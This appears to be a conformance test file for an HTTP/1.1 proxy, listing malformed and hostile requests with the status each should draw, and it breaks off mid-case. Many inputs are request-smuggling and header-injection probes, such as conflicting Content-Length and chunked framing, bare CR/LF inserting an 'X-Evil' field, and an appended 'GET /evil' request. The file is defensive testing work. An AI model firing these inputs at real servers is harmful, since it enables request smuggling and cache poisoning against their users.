= 200 ok
@ GET / HTTP/1.1
has Host: $HOST
400 the absolute-form without a Host :: GET http://$HOST/ HTTP/1.1\r\n\r\n
400 the absolute-form with two Host :: GET http://$HOST/ HTTP/1.1\r\n$H$H\r\n
400 the absolute-form with an invalid Host :: GET http://$HOST/ HTTP/1.1\r\nHost: a b\r\n\r\n
case the absolute-form in 1.0 needs no Host
> GET http://$HOST/ HTTP/1.0\r\n\r\n
= 200 ok
@ GET / HTTP/1.1
has Host: $HOST
end closed
case a target of 8000 octets passes
> GET $T/\{7960:a} HTTP/1.1\r\n$H\r\n
= 200 ok
@ GET /\{7960:a} HTTP/1.1
414 a target of 9000 octets :: GET $T/\{9000:a} HTTP/1.1\r\n$H\r\n
414 a target of 60000 octets :: GET $T/\{60000:a} HTTP/1.1\r\n$H\r\n
414 a target without end :: GET $T/\{100000:a}
414 a query of 9000 octets :: GET $T/?\{9000:a} HTTP/1.1\r\n$H\r\n

# ---- Host (9112, 3.2) ----
400 no Host :: GET $T/ HTTP/1.1\r\n\r\n
400 two equal Host :: GET $T/ HTTP/1.1\r\n$H$H\r\n
400 two Host that differ :: GET $T/ HTTP/1.1\r\n$HHost: b.example\r\n\r\n
400 two Host in different case :: GET $T/ HTTP/1.1\r\n$Hhost: $HOST\r\n\r\n
400 two Host in 1.0 :: GET $T/ HTTP/1.0\r\n$H$H\r\n
400 a list of hosts :: GET $T/ HTTP/1.1\r\nHost: a.example, b.example\r\n\r\n
400 a space in Host :: GET $T/ HTTP/1.1\r\nHost: a .example\r\n\r\n
400 a tab in Host :: GET $T/ HTTP/1.1\r\nHost: a\t.example\r\n\r\n
400 NUL in Host :: GET $T/ HTTP/1.1\r\nHost: a\0.example\r\n\r\n
400 an 8-bit octet in Host :: GET $T/ HTTP/1.1\r\nHost: a\xe9.example\r\n\r\n
400 userinfo in Host :: GET $T/ HTTP/1.1\r\nHost: u@$HOST\r\n\r\n
400 a path in Host :: GET $T/ HTTP/1.1\r\nHost: $HOST/\r\n\r\n
400 a query in Host :: GET $T/ HTTP/1.1\r\nHost: $HOST?a\r\n\r\n
400 a fragment in Host :: GET $T/ HTTP/1.1\r\nHost: $HOST#a\r\n\r\n
400 a scheme in Host :: GET $T/ HTTP/1.1\r\nHost: http://$HOST\r\n\r\n
400 a backslash in Host :: GET $T/ HTTP/1.1\r\nHost: a\\b\r\n\r\n
400 a quoted Host :: GET $T/ HTTP/1.1\r\nHost: "a.example"\r\n\r\n
400 letters in Host's port :: GET $T/ HTTP/1.1\r\nHost: a.example:http\r\n\r\n
400 Host's port beyond 65535 :: GET $T/ HTTP/1.1\r\nHost: a.example:65536\r\n\r\n
400 a sign in Host's port :: GET $T/ HTTP/1.1\r\nHost: a.example:+80\r\n\r\n
400 two ports in Host :: GET $T/ HTTP/1.1\r\nHost: a.example:80:80\r\n\r\n
400 an unclosed address in Host :: GET $T/ HTTP/1.1\r\nHost: [::1\r\n\r\n
400 text after an address in Host :: GET $T/ HTTP/1.1\r\nHost: [::1]a\r\n\r\n
400 a bare IPv6 address in Host :: GET $T/ HTTP/1.1\r\nHost: ::1\r\n\r\n
400 brackets around a name in Host :: GET $T/ HTTP/1.1\r\nHost: [a.example]\r\n\r\n
400 a malformed escape in Host :: GET $T/ HTTP/1.1\r\nHost: a%zz\r\n\r\n
400 an invalid Host in 1.0 :: GET $T/ HTTP/1.0\r\nHost: a b\r\n\r\n
case a Host of a port alone
> GET $T/ HTTP/1.1\r\nHost: :80\r\n\r\n
= 200|400
@count 0-1
end any
case blanks around Host are no part of it
> GET $T/ HTTP/1.1\r\nHost:\t $HOST \t\r\n\r\n
= 200 ok
@ GET / HTTP/1.1
has Host: $HOST
case Host without a blank
> GET $T/ HTTP/1.1\r\nHost:$HOST\r\n\r\n
= 200 ok
@ *
has Host: $HOST
case Host in any case
> GET $T/ HTTP/1.1\r\nhOST: $HOST\r\n\r\n
= 200 ok
@ *
has Host: $HOST
case Host as the last field
> GET $T/ HTTP/1.1\r\nA: b\r\n$H\r\n
= 200 ok
@ *
has Host: $HOST
has A: b
case Host is not removed by Connection
> GET $T/ HTTP/1.1\r\n$HConnection: Host\r\n\r\n
= 200 ok
@ *
has Host: $HOST

# ---- field lines (9112, 5; 9110, 5.5; 5.6.2) ----
400 a space before the colon :: $GA : b\r\n\r\n
400 a tab before the colon :: $GA\t: b\r\n\r\n
400 a space before the colon of Content-Length :: $PContent-Length : 2\r\n\r\nab
400 no colon :: $GAbc\r\n\r\n
400 an empty name :: $G: b\r\n\r\n
400 a space in the name :: $GA b: c\r\n\r\n
400 a parenthesis in the name :: $GA(b: c\r\n\r\n
400 a closing parenthesis in the name :: $GA)b: c\r\n\r\n
400 a comma in the name :: $GA,b: c\r\n\r\n
400 a slash in the name :: $GA/b: c\r\n\r\n
400 a semicolon in the name :: $GA;b: c\r\n\r\n
400 an angle bracket in the name :: $GA<b: c\r\n\r\n
400 an equals sign in the name :: $GA=b: c\r\n\r\n
400 a question mark in the name :: $GA?b: c\r\n\r\n
400 an at sign in the name :: $GA@b: c\r\n\r\n
400 a bracket in the name :: $GA[b: c\r\n\r\n
400 a backslash in the name :: $GA\\b: c\r\n\r\n
400 a brace in the name :: $GA{b: c\r\n\r\n
400 a quote in the name :: $GA"b: c\r\n\r\n
400 NUL in the name :: $GA\0b: c\r\n\r\n
400 a control in the name :: $GA\x01b: c\r\n\r\n
400 DEL in the name :: $GA\x7fb: c\r\n\r\n
400 an 8-bit octet in the name :: $GA\xe9b: c\r\n\r\n
400 NBSP before the colon :: $GA\xa0: c\r\n\r\n
400 NUL in a value :: $GA: b\0c\r\n\r\n
400 NUL at the end of a value :: $GA: b\0\r\n\r\n
400 a bare CR in a value :: $GA: b\rc\r\n\r\n
400 a bare CR before a field :: $GA: b\rX-Evil: 1\r\n\r\n
400 a bare LF in the header section :: $GA: b\nX-Evil: 1\r\n\r\n
400 bare LFs throughout :: GET $T/ HTTP/1.1\nHost: $HOST\n\n
400 a bare LF as the empty line :: $GA: b\r\n\n
400 two CR before the LF of a field :: $GA: b\r\r\n\r\n
400 CR CR LF as the empty line :: $GA: b\r\n\r\r\n
400 a control in a value :: $GA: b\x01c\r\n\r\n
400 BEL in a value :: $GA: \x07\r\n\r\n
400 a vertical tab in a value :: $GA: b\x0bc\r\n\r\n
400 a form feed in a value :: $GA: b\x0cc\r\n\r\n
400 ESC in a value :: $GA: b\x1bc\r\n\r\n
400 DEL in a value :: $GA: b\x7fc\r\n\r\n
400 obs-fold with a space :: $GA: b\r\n c\r\n\r\n
400 obs-fold with a tab :: $GA: b\r\n\tc\r\n\r\n
400 obs-fold of nothing :: $GA: b\r\n \r\n\r\n
400 obs-fold in Content-Length :: $P$CL\r\n 2\r\n\r\nab
400 obs-fold in Transfer-Encoding :: $PTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n
400 obs-fold in Host :: GET $T/ HTTP/1.1\r\nHost: a\r\n .example\r\n\r\n
400 a blank before the first field :: GET $T/ HTTP/1.1\r\n A: b\r\n$H\r\n
400 a line of a blank before the first field :: GET $T/ HTTP/1.1\r\n \r\n$H\r\n
case blanks around a value are no part of it
> $GA: \t b c \t \r\nB:d\r\nC:\r\nD: \t \r\n\r\n
= 200 ok
@ *
has A: b c
has B: d
has C:
has D:
case tabs, 8-bit octets and punctuation pass in a value
> $GA: \xe9\tb\x80\xff"(<>@,;:\\/[]?={})\r\n\r\n
= 200 ok
@ *
has A: \xe9\tb\x80\xff"(<>@,;:\\/[]?={})
case a name of every token character passes
> $GA!#$%&'*+-.^_`|~0z: v\r\n\r\n
= 200 ok
@ *
has A!#$%&'*+-.^_`|~0z: v
case a name of one octet passes
> $G_: v\r\n\r\n
= 200 ok
@ *
has _: v
case repeated fields stay in order
> $GA: 1\r\nB: x\r\nA: 2\r\na: 3\r\n\r\n
= 200 ok
@ *
has A: 1, 2, 3
case Set-Cookie and Cookie lines pass
> $GCookie: a=1; b=2\r\nAuthorization: Basic YTpi\r\n\r\n
< HTTP/1.1 200 OK\r\nSet-Cookie: a=1, b\r\nSet-Cookie: c=2\r\nContent-Length: 0\r\n\r\n
= 200 ""
has Set-Cookie: a=1, b, c=2
@ *
has Cookie: a=1; b=2
has Authorization: Basic YTpi
case 120 fields pass
> $G\{118:A: b\r\n}\r\n
= 200 ok
431 140 fields :: $G\{138:A: b\r\n}\r\n
431 5000 options of Connection :: $GConnection: \{5000:a,}b\r\n\r\n
431 5000 fields :: $G\{5000:A: b\r\n}\r\n
431 fields without end :: $G\{20000:A: b\r\n}
case a value of 30000 octets passes
> $GA: \{30000:v}\r\n\r\n
= 200 ok
@ *
has A: \{30000:v}
431 a value of 70000 octets :: $GA: \{70000:v}\r\n\r\n
431 a value without end :: $GA: \{200000:v}
431 a name without end :: $G\{200000:v}
431 a header section of 80000 octets :: $G\{80:A: \{990:v}\r\n}\r\n

# ---- Content-Length of requests (9112, 6.2; 6.3) ----
case content by Content-Length
> $P$CL 5\r\n\r\nhello
= 200 ok
@ POST / HTTP/1.1
content hello
case Content-Length 0
> $P$CL 0\r\n\r\n
= 200 ok
@ POST / HTTP/1.1
has Content-Length: 0
content ""
case leading zeros: one canonical number goes on
> $P$CL 0005\r\n\r\nhello
= 200 ok
@ *
has Content-Length: 5
content hello
case content with NUL, CR, LF and 8 bits
> $P$CL 9\r\n\r\n\0\r\n\r\n\xff\x80GE
= 200 ok
@ *
content \0\r\n\r\n\xff\x80GE
case POST without framing has no content
> $P\r\n
= 200 ok
@ POST / HTTP/1.1
content ""
case GET with content
> $G$CL 2\r\n\r\nab
= 200 ok
@ GET / HTTP/1.1
content ab
case DELETE with content
> DELETE $T/ HTTP/1.1\r\n$H$CL 2\r\n\r\nab
= 200 ok
@ DELETE / HTTP/1.1
content ab
case HEAD with content
> HEAD $T/ HTTP/1.1\r\n$H$CL 2\r\n\r\nab
=head 200
@ HEAD / HTTP/1.1
content ab
case content that looks like a request
> $G$CL 37\r\n\r\nGET /evil HTTP/1.1\r\nHost: a.example\r\n
= 200 ok
@ GET / HTTP/1.1
content GET /evil HTTP/1.1\r\nHost: a.example\r\n
case GET without framing: what follows is the next request
> $GX: 1\r\n\r\nGET $T/second HTTP/1.1\r\n$H\r\n
= 200 ok
= 200 ok
@ GET / HTTP/1.1
@ GET /second HTTP/1.1
case content of a megabyte
> $P$CL 1048576\r\n\r\n\{1048576:x}
= 200 ok
@ *
has Content-Length: 1048576
content \{1048576:x}
400 an empty Content-Length :: $P$CL\r\n\r\n
400 a blank Content-Length :: $P$CL \t\r\n\r\n
400 a plus sign :: $P$CL +2\r\n\r\nab
400 a minus sign :: $P$CL -2\r\n\r\nab
400 minus zero :: $P$CL -0\r\n\r\n
400 hexadecimal :: $P$CL 0x2\r\n\r\nab
400 a hex digit :: $P$CL a\r\n\r\n0123456789
400 a fraction :: $P$CL 2.0\r\n\r\nab
400 an exponent :: $P$CL 1e1\r\n\r\nab
400 an underscore :: $P$CL 1_0\r\n\r\n0123456789
400 a space inside :: $P$CL 1 0\r\n\r\n0123456789
400 text after the number :: $P$CL 2b\r\n\r\nab
400 a quoted number :: $P$CL "2"\r\n\r\nab
400 a semicolon after the number :: $P$CL 2;\r\n\r\nab
400 a list of equal lengths :: $P$CL 2, 2\r\n\r\nab
400 a list of lengths that differ :: $P$CL 2, 5\r\n\r\nab
400 a list with an empty member :: $P$CL 2,\r\n\r\nab
400 a list that begins empty :: $P$CL ,2\r\n\r\nab
400 two equal lengths :: $P$CL 2\r\n$CL 2\r\n\r\nab
400 two lengths that differ :: $P$CL 2\r\n$CL 5\r\n\r\nab
400 two lengths, the second in other case :: $P$CL 2\r\ncontent-length: 3\r\n\r\nab
400 two lengths of GET :: $G$CL 0\r\n$CL 5\r\n\r\nhello
400 two to the 63rd :: $P$CL 9223372036854775808\r\n\r\nab
400 two to the 64th :: $P$CL 18446744073709551616\r\n\r\nab
400 two to the 64th and two :: $P$CL 18446744073709551618\r\n\r\nab
400 two to the 32nd with a minus :: $P$CL -4294967294\r\n\r\nab
400 a hundred digits :: $P$CL \{100:9}\r\n\r\nab
400 NUL after the number :: $P$CL 2\0\r\n\r\nab
400 a vertical tab before the number :: $P$CL \x0b2\r\n\r\nab
400 a form feed after the number :: $P$CL 2\x0c\r\n\r\nab
400 NBSP before the number :: $P$CL \xa02\r\n\r\nab
400 an 8-bit digit :: $P$CL \xb2\r\n\r\nab
400 a bad length of GET :: $G$CL x\r\n\r\n
400 a bad length in 1.0 :: POST $T/ HTTP/1.0\r\n$H$CL x\r\n\r\n
case a request after a bad length is not looked for
> $P$CL 2, 2\r\n\r\nabGET $T/evil HTTP/1.1\r\n$H\r\n
= 400
@count 0
end closed
case 1.0 with Content-Length
> POST $T/ HTTP/1.0\r\n$H$CL 2\r\n\r\nab
= 200 ok
@ POST / HTTP/1.1
content ab
end closed
case content cut by the end of the client's stream never looks whole
> $P$CL 10\r\n\r\nabc
shut
= 400|none
@count 0
end closed
case content cut by the client's going never looks whole
> $P$CL 10\r\n\r\nabc
gone
@count 0

# ---- Transfer-Encoding of requests (9112, 6.1; 6.3) ----
case chunked content
> $C5\r\nhello\r\n0\r\n\r\n
= 200 ok
@ POST / HTTP/1.1
content hello
case chunked in any case
> $PTransfer-Encoding: ChUnKeD\r\n\r\n2\r\nab\r\n0\r\n\r\n
= 200 ok
@ *
content ab
case blanks around chunked
> $PTransfer-Encoding:\t chunked \t\r\n\r\n2\r\nab\r\n0\r\n\r\n
= 200 ok
@ *
content ab
case GET with chunked content
> $G$TE\r\n2\r\nab\r\n0\r\n\r\n
= 200 ok
@ GET / HTTP/1.1
content ab
400 chunked and Content-Length :: $P$TE$CL 5\r\n\r\n0\r\n\r\n
400 Content-Length and chunked :: $P$CL 5\r\n$TE\r\n0\r\n\r\n
400 chunked and Content-Length 0 :: $P$CL 0\r\n$TE\r\n2\r\nab\r\n0\r\n\r\n
400 chunked of GET and Content-Length :: $G$CL 3\r\n$TE\r\n0\r\n\r\n
case a request after chunked and Content-Length is not looked for
> $P$CL 4\r\n$TE\r\n0\r\n\r\nGET $T/evil HTTP/1.1\r\n$H\r\n
= 400
@count 0
end closed
400|501 identity and Content-Length :: $PTransfer-Encoding: identity\r\n$CL 2\r\n\r\nab
400|501 an unknown coding and Content-Length :: $PTransfer-Encoding: x\r\n$CL 2\r\n\r\nab
400|501 gzip alone :: $PTransfer-Encoding: gzip\r\n\r\n
400|501 identity :: $PTransfer-Encoding: identity\r\n\r\n
400|501 an unknown coding :: $PTransfer-Encoding: x\r\n\r\n
400|501 xchunked :: $PTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n
400|501 chunkedx :: $PTransfer-Encoding: chunkedx\r\n\r\n0\r\n\r\n
400|501 chunke :: $PTransfer-Encoding: chunke\r\n\r\n0\r\n\r\n
400|501 gzip, chunked :: $PTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n
400|501 chunked, gzip :: $PTransfer-Encoding: chunked, gzip\r\n\r\n0\r\n\r\n
400|501 chunked, identity :: $PTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n
400|501 identity, chunked :: $PTransfer-Encoding: identity, chunked\r\n\r\n0\r\n\r\n
400 chunked, chunked :: $PTransfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n
400 two equal Transfer-Encoding :: $P$TE$TE\r\n0\r\n\r\n
400|501 two Transfer-Encoding that differ :: $P$TETransfer-Encoding: x\r\n\r\n0\r\n\r\n
400|501 two Transfer-Encoding, chunked the last :: $PTransfer-Encoding: x\r\n$TE\r\n0\r\n\r\n
400|501 an empty Transfer-Encoding :: $PTransfer-Encoding:\r\n\r\n0\r\n\r\n
400|501 a comma alone :: $PTransfer-Encoding: ,\r\n\r\n0\r\n\r\n
400|501 a comma after chunked :: $PTransfer-Encoding: chunked,\r\n\r\n0\r\n\r\n
400|501 a comma before chunked :: $PTransfer-Encoding: ,chunked\r\n\r\n0\r\n\r\n
400|501 a parameter of chunked :: $PTransfer-Encoding: chunked;a=b\r\n\r\n0\r\n\r\n
400|501 a semicolon after chunked :: $PTransfer-Encoding: chunked;\r\n\r\n0\r\n\r\n
400|501 quoted chunked :: $PTransfer-Encoding: "chunked"\r\n\r\n0\r\n\r\n
400 a vertical tab before chunked :: $PTransfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n
400 a form feed after chunked :: $PTransfer-Encoding: chunked\x0c\r\n\r\n0\r\n\r\n
400 NUL after chunked :: $PTransfer-Encoding: chunked\0\r\n\r\n0\r\n\r\n
400|501 NBSP before chunked :: $PTransfer-Encoding: \xa0chunked\r\n\r\n0\r\n\r\n
400|501 an 8-bit octet after chunked :: $PTransfer-Encoding: chunked\xff\r\n\r\n0\r\n\r\n
400 chunked in 1.0 :: POST $T/ HTTP/1.0\r\n$H$TE\r\n0\r\n\r\n
400 chunked and Content-Length in 1.0 :: POST $T/ HTTP/1.0\r\n$H$TE$CL 5\r\n\r\n0\r\n\r\n
400 chunked in 1.0 with keep-alive :: POST $T/ HTTP/1.0\r\n$HConnection: keep-alive\r\n$TE\r\n0\r\n\r\n
case a field that is only like Transfer-Encoding does not frame
> $PTransfer_Encoding: chunked\r\n$CL 2\r\n\r\nab
= 200 ok
@ *
content ab
case Connection does not remove Transfer-Encoding
> $P$TEConnection: Transfer-Encoding\r\n\r\n2\r\nab\r\n0\r\n\r\n
= 200 ok
@ *
content ab
case Connection does not remove Content-Length
> $P$CL 2\r\nConnection: Content-Length\r\n\r\nab
= 200 ok
@ *
content ab

# ---- the chunked coding of requests (9112, 7.1) ----
case several chunks
> $C1\r\na\r\n2\r\nbc\r\n3\r\ndef\r\n0\r\n\r\n
= 200 ok
@ *
content abcdef
case no chunk but the last
> $C0\r\n\r\n
= 200 ok
@ *
content ""
case sizes in both cases
> $CA\r\n0123456789\r\na\r\n0123456789\r\n0\r\n\r\n
= 200 ok
@ *
content 01234567890123456789
case a size of 16 digits
> $C0000000000000002\r\nab\r\n0000000000000000\r\n\r\n
= 200 ok
@ *
content ab
case CRLF within chunk data
> $C6\r\n\r\n0\r\n\r\r\n0\r\n\r\n
= 200 ok
@ *
content \r\n0\r\n\r
case chunked content of 300000 octets
> $C493e0\r\n\{300000:y}\r\n0\r\n\r\n
= 200 ok
@ *
content \{300000:y}
case 3000 chunks of one octet
> $C\{3000:1\r\nz\r\n}0\r\n\r\n
= 200 ok
@ *
content \{3000:z}
case an extension is dropped
> $C2;a=b\r\nab\r\n0;c\r\n\r\n
= 200 ok
@ *
content ab
case a quoted extension is dropped
> $C2;a="b;\\"c, d"\r\nab\r\n0\r\n\r\n
= 200 ok
@ *
content ab
case two extensions are dropped
> $C2;a;b=c\r\nab\r\n0\r\n\r\n
= 200 ok
@ *
content ab
case blanks around an extension's semicolon
> $C2 \t; a=b\r\nab\r\n0\r\n\r\n
= 200 ok
@ *
content ab
400 a size of 17 digits :: $C00000000000000002\r\nab\r\n0\r\n\r\n
400 a size of two to the 64th and two :: $C10000000000000002\r\nab\r\n0\r\n\r\n
400 a size of 16 F :: $CFFFFFFFFFFFFFFFF\r\nab\r\n0\r\n\r\n
400 a size of two to the 63rd :: $C8000000000000000\r\nab\r\n0\r\n\r\n
400 an empty size :: $C\r\nab\r\n0\r\n\r\n
400 an empty size with an extension :: $C;a=b\r\nab\r\n0\r\n\r\n
400 a size with 0x :: $C0x2\r\nab\r\n0\r\n\r\n
400 a size with a plus sign :: $C+2\r\nab\r\n0\r\n\r\n
400 a size with a minus sign :: $C-2\r\nab\r\n0\r\n\r\n
400 a size of minus zero :: $C-0\r\n\r\n
400 a size with an underscore :: $C0_2\r\nab\r\n0\r\n\r\n
400 a size with a letter :: $C2g\r\nab\r\n0\r\n\r\n
400 a size with h :: $C2h\r\nab\r\n0\r\n\r\n
400 a space before the size :: $C 2\r\nab\r\n0\r\n\r\n
400 a tab before the size :: $C\t2\r\nab\r\n0\r\n\r\n
400 a space after the size :: $C2 \r\nab\r\n0\r\n\r\n
400 a tab after the size :: $C2\t\r\nab\r\n0\r\n\r\n
400 a space after the last size :: $C0 \r\n\r\n
400 a quoted size :: $C"2"\r\nab\r\n0\r\n\r\n
400 a fraction as size :: $C2.0\r\nab\r\n0\r\n\r\n
400 a comma after the size :: $C2,\r\nab\r\n0\r\n\r\n
400 NUL after the size :: $C2\0\r\nab\r\n0\r\n\r\n
400 a vertical tab after the size :: $C2\x0b\r\nab\r\n0\r\n\r\n
400 an 8-bit octet after the size :: $C2\xa0\r\nab\r\n0\r\n\r\n
400 a bare LF after the size :: $C2\nab\r\n0\r\n\r\n
400 a bare CR after the size :: $C2\rab\r\n0\r\n\r\n
400 two CR after the size :: $C2\r\r\nab\r\n0\r\n\r\n
400 a bare LF in an extension :: $C2;a\nb\r\nab\r\n0\r\n\r\n
400 a bare CR in an extension :: $C2;a\rb\r\nab\r\n0\r\n\r\n
400 NUL in an extension :: $C2;a\0\r\nab\r\n0\r\n\r\n
400 a control in an extension :: $C2;a=\x01\r\nab\r\n0\r\n\r\n
case an extension whose quote does not end before the line
> $C2;a="b\r\nab\r\n0\r\n\r\n
= 200|400
@count 0-1
end any
case an extension without a name
> $C2;=b\r\nab\r\n0\r\n\r\n
= 200|400
@count 0-1
end any
400 extensions of 20000 octets :: $C2;a=\{20000:e}\r\nab\r\n0\r\n\r\n
400 extensions of 100000 octets in many chunks :: $C\{2000:1;a=\{50:e}\r\nz\r\n}0\r\n\r\n
400 no CRLF after the data :: $C2\r\nab0\r\n\r\n
400 more data than the size :: $C2\r\nabc\r\n0\r\n\r\n
400 less data than the size :: $C3\r\nab\r\n0\r\n\r\n
400 a bare LF after the data :: $C2\r\nab\n0\r\n\r\n
400 a bare CR after the data :: $C2\r\nab\r0\r\n\r\n
400 a space after the data :: $C2\r\nab \r\n0\r\n\r\n
400 CR and another octet after the data :: $C2\r\nab\rX0\r\n\r\n
400 a bare LF after the last size :: $C2\r\nab\r\n0\n\r\n
400 a bare LF as the end :: $C2\r\nab\r\n0\r\n\n
400 a bare CR as the end :: $C2\r\nab\r\n0\r\n\rX
400 a broken chunk after a good one :: $C2\r\nab\r\nzz\r\n0\r\n\r\n
case a request after a broken chunk is not looked for
> $C2\r\nabc\r\n0\r\n\r\nGET $T/evil HTTP/1.1\r\n$H\r\n
= 400
@count 0
end closed
case a broken chunk after much content never looks whole
> $C493e0\r\n\{300000:y}\r\n
> zz\r\n0\r\n\r\n
= 400|none
@count 0
end closed
case a broken chunk that comes later never looks whole
> $C2\r\nab\r\n
> -1\r\n0\r\n\r\n
= 400|none
@count 0
end closed
case chunked content cut by the end of the client's stream never looks whole
> $C5\r\nhel
shut
= 400|none
@count 0
end closed
case chunked content cut between chunks never looks whole
> $C2\r\nab\r\n
shut
= 400|none
@count 0
end closed
case chunked content cut after the last size never looks whole
> $C2\r\nab\r\n0\r\n
shut
= 400|none
@count 0
end closed
case chunked content cut by the client's going never looks whole
> $C2\r\nab\r\n
gone
@count 0

# ---- trailer sections of requests (9112, 7.1.2; 9110, 6.5) ----
case a trailer field is passed on
> $C2\r\nab\r\n0\r\nX-Sum: 1\r\n\r\n
= 200 ok
@ *
content ab
trailer X-Sum: 1
case a trailer field is not merged into the header section
> $PA: 1\r\n$TE\r\n2\r\nab\r\n0\r\nA: 2\r\n\r\n
= 200 ok
@ *
has A: 1
case trailer fields that frame, route or authenticate are dropped
> $C2\r\nab\r\n0\r\nHost: b\r\nContent-Length: 5\r\nTransfer-Encoding: gzip\r\nX-Forwarded-Host: b\r\nCookie: a\r\n\r\n
= 200|400
@count 0-1
end any
case a Content-Length in the trailer section does not go on
> $C2\r\nab\r\n0\r\nContent-Length: 5\r\n\r\n
= 200 ok
@ *
lacks Content-Length
case an Authorization in the trailer section does not go on
> $C2\r\nab\r\n0\r\nAuthorization: Basic YTpi\r\nA: b\r\n\r\n
= 200 ok
@ *
lacks Authorization
case hop-by-hop fields in the trailer section do not go on
> $C2\r\nab\r\n0\r\nConnection: A\r\nKeep-Alive: 5\r\nUpgrade: x\r\nTE: trailers\r\nB: c\r\n\r\n
= 200 ok
@ *
lacks Keep-Alive Upgrade TE Connection
400 a trailer line without a colon :: $C2\r\nab\r\n0\r\nabc\r\n\r\n
400 a space before a trailer's colon :: $C2\r\nab\r\n0\r\nA : b\r\n\r\n
400 an empty name in the trailer section :: $C2\r\nab\r\n0\r\n: b\r\n\r\n
400 NUL in the trailer section :: $C2\r\nab\r\n0\r\nA: \0\r\n\r\n
400 a bare LF in the trailer section :: $C2\r\nab\r\n0\r\nA: b\n\r\n
400 a bare CR in the trailer section :: $C2\r\nab\r\n0\r\nA: b\rC: d\r\n\r\n
400 obs-fold in the trailer section :: $C2\r\nab\r\n0\r\nA: b\r\n c\r\n\r\n
400|431 300 trailer fields :: $C2\r\nab\r\n0\r\n\{300:A: b\r\n}\r\n
400|431 a trailer section of 20000 octets :: $C2\r\nab\r\n0\r\nA: \{20000:b}\r\n\r\n
400|431 a trailer section of 100000 octets :: $C2\r\nab\r\n0\r\nA: \{100000:b}\r\n\r\n
case a trailer section that does not end
> $C2\r\nab\r\n0\r\nA: b\r\n
shut
= 400|none
@count 0
end closed

# ---- forwarding: Connection and hop-by-hop fields (9110, 7.6.1) ----
case nominated fields are removed
> $GConnection: X-A, x-b\r\nX-A: 1\r\nX-B: 2\r\nX-C: 3\r\n\r\n
= 200 ok
@ *
lacks X-A X-B
has X-C: 3
case nominated fields are removed by every Connection line
> $GConnection: X-A\r\nX-A: 1\r\nX-B: 2\r\nCONNECTION: ,, x-B ,\r\nX-A: 3\r\n\r\n
= 200 ok
@ *
lacks X-A X-B
case a nomination matches whole names only
> $GConnection: X-A\r\nX-AB: 1\r\nX: 2\r\n\r\n
= 200 ok
@ *
has X-AB: 1
has X: 2
case a nominated field is removed though it stands before Connection
> $GX-A: 1\r\nConnection: x-a\r\n\r\n
= 200 ok
@ *
lacks X-A
case hop-by-hop fields are removed without a nomination
> $GKeep-Alive: timeout=5\r\nProxy-Connection: keep-alive\r\nUpgrade: x\r\nHTTP2-Settings: AA\r\nTE: gzip\r\n\r\n
= 200 ok
@ *
lacks Keep-Alive Proxy-Connection Upgrade HTTP2-Settings
case end-to-end fields cannot be nominated away
> $GConnection: Authorization, Cookie, Cache-Control, Via\r\nAuthorization: x y\r\nCookie: a=b\r\nCache-Control: no-cache\r\nVia: 1.1 other\r\n\r\n
= 200 ok
@ *
has Authorization: x y
has Cookie: a=b
has Cache-Control: no-cache
has Via: 1.1 other, 1.1 proxy (*
case Connection: close, TE, keep-alive are no field names that go on
> $GConnection: keep-alive, TE\r\nTE: trailers\r\nA: b\r\n\r\n
= 200 ok
@ *
has A: b
case 60 nominations
> $GConnection: \{60:X-A, }X-B\r\nX-A: 1\r\nX-B: 2\r\nC: d\r\n\r\n
= 200 ok
@ *
lacks X-A X-B
has C: d
case TE goes on as trailers at most
> $GConnection: TE\r\nTE: trailers, deflate;q=0.5\r\n\r\n
< $OK$TE\r\n2\r\nok\r\n0\r\n\r\n
= 200 ok
case hop-by-hop fields of answers are removed
> $G\r\n
< $OKConnection: X-A\r\nX-A: 1\r\nKeep-Alive: timeout=5\r\nProxy-Connection: keep-alive\r\nUpgrade: h2c\r\nX-B: 2\r\n$CL 2\r\n\r\nok
= 200 ok
lacks X-A Keep-Alive Proxy-Connection Upgrade
has X-B: 2
case an answer's framing cannot be nominated away
> $G\r\n
< $OKConnection: Content-Length, Set-Cookie\r\n$CL 2\r\n\r\nok
= 200 ok

# ---- Via, Date, version (9110, 7.6.3; 6.6.1; 2.5) ----
case Via is added to request and answer
> $G\r\n
= 200 ok
has Via: 1.1 proxy (*
@ GET / HTTP/1.1
has Via: 1.1 proxy (*
case Via tells the version of a 1.0 client
> $OLD\r\n
= 200 ok
@ GET / HTTP/1.1
has Via: 1.0 proxy (*
end closed
case Via tells the version of a 1.0 origin
> $G\r\n
< HTTP/1.0 200 OK\r\n$CL 2\r\n\r\nok
<close
= 200 ok
has Via: 1.0 proxy (*
case Via is appended to others
> $GVia: 1.0 fred, 1.1 p.example (x)\r\nVia: 1.1 q\r\n\r\n
< $OKVia: 1.1 o\r\n$CL 2\r\n\r\nok
= 200 ok
has Via: 1.1 o, 1.1 proxy (*
@ *
has Via: 1.0 fred, 1.1 p.example (x), 1.1 q, 1.1 proxy (*
case another proxy's Via of our name is no loop
> $GVia: 1.1 proxy (0123abcX)\r\n\r\n
= 200 ok
508~ our own Via is a loop :: $GVia: 1.1 $VIA\r\n\r\n
508~ our own Via among others is a loop :: $GVia: 1.0 a, 1.1 $VIA, 1.1 b\r\n\r\n
508~ our own Via on a second line is a loop :: $GVia: 1.0 a\r\nVia: 1.1 $VIA\r\n\r\n
case Date is added
> $G\r\n
< $OK2
= 200 ok
has Date: *
case Date is kept
> $G\r\n
< $OKDate: Sun, 06 Nov 1994 08:49:37 GMT\r\n$CL 2\r\n\r\nok
= 200 ok
has Date: Sun, 06 Nov 1994 08:49:37 GMT
case fields of an answer pass as they are
> $G\r\n
< $OKServer: o\r\nETag: "x"\r\nX-A: \xe9\tb\r\nx-a: c\r\nEmpty:\r\n$CL 2\r\n\r\nok
= 200 ok
has Server: o
has ETag: "x"
has X-A: \xe9\tb, c
has Empty:

# ---- Max-Forwards, OPTIONS, TRACE (9110, 7.6.2; 9.3.7; 9.3.8) ----
case OPTIONS with Max-Forwards 0 is answered here
> OPTIONS $T/ HTTP/1.1\r\n$HMax-Forwards: 0\r\n\r\n
= 200
@count 0
case TRACE with Max-Forwards 0 is answered here
> TRACE $T/x HTTP/1.1\r\n$HMax-Forwards: 0\r\nX-Seen: 1\r\n\r\n
= 200
has Content-Type: message/http
@count 0
case TRACE with Max-Forwards 0 does not echo secrets
